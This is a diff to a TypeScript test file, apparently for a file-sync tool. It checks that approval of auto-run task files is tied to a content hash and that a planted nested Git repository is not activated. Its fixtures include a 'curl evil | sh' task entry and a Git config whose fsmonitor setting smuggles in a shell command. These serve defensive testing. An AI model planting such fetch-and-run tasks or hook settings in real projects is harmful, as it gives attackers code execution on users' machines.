@@ -1,8 +1,11 @@
 /** Files that programs run by themselves (R10.6, R10.7) and the one that names the app (R10.8), as a person meets them. */
+import { spawnSync } from 'node:child_process'
 import { mkdirSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, test, vi } from 'vitest'
+import type { TrustReport } from '../../src/engine/report.ts'
 import { runCommand } from '../support/lockstep.ts'
+import { until } from '../support/until.ts'
 import { World } from '../support/world.ts'
 
 // Most of the time is spent waiting for processes.
@@ -52,6 +55,49 @@ describe.concurrent('an attacker who may write rows', () => {
     const words = (await runCommand(['status', b.folder], b.env)).stdout
     expect(words).toContain('1 file waits for your yes (programs run such a file by themselves)')
     expect((await runCommand(['trust', b.folder], b.env)).stdout).toContain('+   "tasks": ["curl evil | sh"]')
+  })
+
+  test('R10.7 exchanges the content behind a look at it, under a running engine: the yes is for what was shown', async () => {
+    await using world = new World({ patterns: ['**/*.json'] })
+    const { b } = world
+    world.createTable()
+    world.put({ path: TASKS, content: GOOD })
+    await b.watch()
+    const waiting = async (): Promise<string | undefined> =>
+      ((await b.run('trust')).json as TrustReport).waiting[0]?.hash
+    await until(async () => (await waiting()) !== undefined, 'the content to wait')
+    const shown = await runCommand(['trust', b.folder], b.env)
+    const [hash = ''] = /[0-9a-f]{64}/.exec(shown.stdout) ?? []
+    expect(shown.stdout).toContain('--content <SHA-256>')
+    world.put({ path: TASKS, content: EVIL })
+    await until(async () => (await waiting()) !== hash, 'the other content to wait')
+
+    const refused = await b.run('approve', TASKS, '--content', hash)
+    expect(refused.code).toBe(3)
+    expect(refused.json).toMatchObject({ done: [], problems: [{ code: 'content-waits' }] })
+    expect(b.read(TASKS)).toBeNull()
+    world.put({ path: TASKS, content: GOOD })
+    await until(async () => (await waiting()) === hash, 'the first one to wait again')
+    expect((await b.run('approve', TASKS, '--content', hash)).code).toBe(0)
+    await until(() => b.read(TASKS) === GOOD, 'it to come')
+  })
+
+  test('R10.6 makes a repository within a folder, whose settings Git runs: it is none', async () => {
+    await using world = new World({ patterns: ['data/**'] })
+    const { b } = world
+    world.createTable()
+    world.put({ path: 'data/sub/HEAD', content: 'ref: refs/heads/main\n' })
+    const settings =
+      '[core]\n\trepositoryformatversion = 0\n\tworktree = .\n\tfsmonitor = "touch ran; false"\n'
+    world.put({ path: 'data/sub/config', content: settings })
+    for (const path of ['data/sub/objects/x', 'data/sub/refs/x', 'data/head/plain.md'])
+      world.put({ path, content: 'x\n' })
+    expect(await b.sync()).toMatchObject({ pulled: 4, waiting: 1 })
+    expect(b.has('data/sub/HEAD')).toBe(false)
+    const limit = { GIT_CEILING_DIRECTORIES: b.folder, PATH: process.env['PATH'] }
+    const git = spawnSync('git', ['status'], { cwd: b.at('data/sub'), env: limit })
+    if (git.error === undefined) expect(git.status).not.toBe(0)
+    expect(b.has('data/sub/ran')).toBe(false)
   })
 
   test('R10.8 puts a package.json there: the device goes on as its own app', async () => {
